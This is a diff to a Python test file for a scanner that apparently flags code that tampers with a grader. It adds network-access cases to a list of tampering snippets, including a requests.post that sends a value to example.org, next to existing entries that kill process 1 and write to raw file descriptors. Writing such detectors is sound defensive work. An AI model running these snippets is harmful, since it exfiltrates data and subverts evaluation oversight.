@@ -667,6 +667,9 @@ TAMPERING = [
     ("os.dup2(3, 1)", "writes to raw file descriptors or reaches other processes"),
     ("os.kill(1, 9)", "writes to raw file descriptors or reaches other processes"),
     ("open('/proc/self/fd/1', 'w')", "writes to raw file descriptors or reaches other processes"),
+    ("import socket", "reaches for the network"),
+    ("from urllib.request import urlopen", "reaches for the network"),
+    ("import requests\nrequests.post('http://example.org', data=str(f0))", "reaches for the network"),
 ]
 
 
@@ -687,7 +690,7 @@ def test_scan_for_tampering_reports_each_reason_once_in_order() -> None:
 
 @pytest.mark.parametrize("source", [
     "if np.pi == 3.14: pass", "x = np.zeros(3)", "import os\nos.path.join('a', 'b')", "results = [1]",
-    "signals = 1", "pickled_value = 2", "def __init__(self): pass",
+    "signals = 1", "pickled_value = 2", "def __init__(self): pass", "# the grader requests the values",
     "np.random.seed(0)\nrng = np.random.default_rng(0)\nrng.bit_generator.state = rng.bit_generator.state",
     "weights = np.zeros((2, 2))\nweights[0, 0] = 1\nweights.shape = (4,)", "a = np.pi\nb = [a]\nb[0] = 2",
     "np.set_printoptions(precision=3)\nimport numpy.linalg as la\nnorm = la.norm(np.ones(2))",
